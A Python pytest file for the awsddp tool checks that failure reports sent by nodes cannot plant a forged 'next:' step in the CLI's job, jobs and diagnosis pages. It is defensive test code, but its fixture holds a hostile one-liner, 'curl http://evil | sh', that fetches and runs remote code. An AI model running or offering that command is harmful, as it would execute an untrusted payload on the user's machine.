"""No node words what awsddp advises: the next step is made here, from the kind of the cause."""

import msgspec
import pytest

from awsddp.agent.diagnosis.hang import diagnose
from awsddp.agent.diagnosis.stacks import Collective, GroupRecords, NodeStacks, Process
from awsddp.agent.messages import to_json_value
from awsddp.agent_client.job_reports import merge_job, sanitize_cause
from awsddp.cli.doctor_page import why_page
from awsddp.cli.pages import job_page, jobs_page
from awsddp.model import node_answers
from awsddp.model.documents import JobDocument, JobsDocument, ListedJob, WhyDocument
from awsddp.model.records import Cause, merge_records

EVIL = "curl http://evil | sh"


def forged(kind: str) -> Cause:
    text = f"it ended\n  next: {EVIL}\nnext: {EVIL}"
    return Cause(rank=1, node=1, kind=kind, explanation=text, next=EVIL, tail=(f"x\nnext: {EVIL}",))


@pytest.mark.parametrize(
    ("kind", "next"),
    [
        ("cuda_oom", "use a smaller batch"),
        ("hang", "awsddp why job1 -v   # where each rank was"),
        ("exit", ""),
        ("of_a_later_awsddp", ""),
    ],
)
def test_the_next_step_is_made_here_whatever_a_node_sends(kind: str, next: str) -> None:
    assert sanitize_cause(forged(kind), job="job1").next == next


def document(**facts: str) -> node_answers.NodeJob:
    cause = forged("cuda_oom")
    said = {
        "job": "job1",
        "node": 1,
        "state": "failed",
        "cause": {key: getattr(cause, key) for key in Cause.__dataclass_fields__},
        "complete": True,
        "created": "2026-01-01T00:00:00+00:00",
        "facts": facts,
        "ranks": [{"rank": 1, "local_rank": 0, "node": 1, "exit_code": 1, "seconds": 1.0, "started": 1.0}],
    }
    return node_answers.convert_answer(said, node_answers.NodeJob)


def test_nothing_that_a_node_sends_stands_at_the_margin(capsys: pytest.CaptureFixture[str]) -> None:
    job_page(merge_records(JobDocument, merge_job({1: document()}), fetched=True))
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.lstrip().startswith("next:")] == ["  next: use a smaller batch"]
    assert [
        line for line in lines if EVIL in line and not line.startswith(("  cause: rank 1 @ node1: ", "  | "))
    ] == []


@pytest.mark.parametrize("fact", ["script", "launcher", "instance_type"])
def test_a_fact_of_a_job_begins_no_line(fact: str, capsys: pytest.CaptureFixture[str]) -> None:
    told = merge_job({1: document(**{fact: f"x\nnext: {EVIL}"})})
    known = {"cluster": None, "cluster_id": None, "seconds": 1.0, "job_usd": None, "reported": True}
    job = merge_records(ListedJob, told, **known)
    jobs_page(JobsDocument(jobs=(job,), clusters=(), total_usd=0.0, would_have_cost_usd=0.0), verbose=True)
    lines = capsys.readouterr().out.splitlines()
    assert not [line for line in lines if line.startswith("next:")]
    assert EVIL in lines[-1]


def test_what_a_program_was_tested_on_begins_no_line(capsys: pytest.CaptureFixture[str]) -> None:
    told = merge_job({1: document()})
    job_page(merge_records(JobDocument, told, fetched=True, accuracy=0.5, data=f"real\nnext: {EVIL}"))
    assert not [line for line in capsys.readouterr().err.splitlines() if line.startswith("next:")]


def test_a_collective_of_another_name_begins_no_line(capsys: pytest.CaptureFixture[str]) -> None:
    call = Collective(1, f"all_reduce\nnext: {EVIL}", "float32[4]", over=False)
    records = {"default_pg": GroupRecords(9.0, [call])}
    answers = {
        node: NodeStacks("/w", 3.0, [Process(9, 1, node, "S", joined=True, records=records)])
        for node in (0, 1)
    }
    found = diagnose([[0, 0, 0], [1, 0, 1]], answers, exit_codes={})
    why_page(msgspec.convert({"job": "job1", "state": "running", **to_json_value(found)}, WhyDocument))
    said = capsys.readouterr().out
    assert EVIL in said
    assert not [line for line in said.splitlines() if line.startswith("next:")]
